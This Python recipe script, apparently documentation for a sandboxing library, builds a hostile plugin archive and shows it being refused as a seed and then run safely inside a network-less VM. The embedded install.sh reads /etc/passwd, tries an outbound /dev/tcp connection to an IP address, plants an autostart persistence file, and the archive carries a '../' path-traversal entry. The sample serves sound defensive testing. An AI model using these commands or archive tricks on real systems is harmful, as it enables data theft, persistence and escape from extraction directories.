"""Recipe: untrusted code inspection (docs/use-cases/untrusted-inspection.md, in Python): a
hostile archive is refused as a seed, then unpacked and run inside a VM with no network; only
what you pick comes back.

usage: python3 untrusted_inspection.py"""

import io
import sys
import tarfile
import tempfile
from pathlib import Path

from pyro_mcp import InvalidArgumentError, Pyro

INSTALL = b"""#!/bin/sh
echo "snooping: $(head -c 200 /etc/passwd | wc -l) lines of passwd"
(echo > /dev/tcp/93.184.216.34/80) 2>/dev/null && echo "phoned home" || echo "no network"
mkdir -p /root/.config/autostart && echo evil > /root/.config/autostart/persist
echo installed
"""


def hostile_archive(path: Path) -> None:
    with tarfile.open(path, "w:gz") as t:
        for name, data in (("plugin-drop/install.sh", INSTALL), ("plugin-drop/README.txt", b"a plugin\n"),
                           ("../escape.txt", b"climbed out\n")):
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o755
            t.addfile(info, io.BytesIO(data))


def main() -> int:
    inbox = Path(tempfile.mkdtemp()) / "inbox"
    inbox.mkdir()
    hostile_archive(inbox / "plugin-drop.tar.gz")
    pyro = Pyro()
    try:
        pyro.workspaces.create("debian:12", seed_path=inbox / "plugin-drop.tar.gz")
        print("the hostile archive was accepted as a seed!")
        return 1
    except InvalidArgumentError as e:
        print(f"refused as a seed: {e.message}")
    with pyro.workspaces.create("debian:12", seed_path=inbox, name="untrusted") as ws:
        assert ws.info.network_policy == "off"
        print(ws.exec("tar -tvzf plugin-drop.tar.gz").stdout, end="")
        ws.exec("mkdir unpacked && tar -xzf plugin-drop.tar.gz -C unpacked 2>&1 || true")
        run = ws.exec("sh unpacked/plugin-drop/install.sh", timeout_seconds=30)
        print(f"install.sh exit {run.exit_code}:\n{run.stdout}", end="")
        touched = ws.exec("ls -la /root/.config/autostart/").stdout
        print(f"what it left in the guest:\n{touched}", end="")
        out = Path(tempfile.mkdtemp()) / "README.txt"
        ws.export("unpacked/plugin-drop/README.txt", output=out)
        print(f"brought back only {out.name}: {out.read_text().strip()!r}")
        return 0 if "no network" in run.stdout else 1


if __name__ == "__main__":
    sys.exit(main())
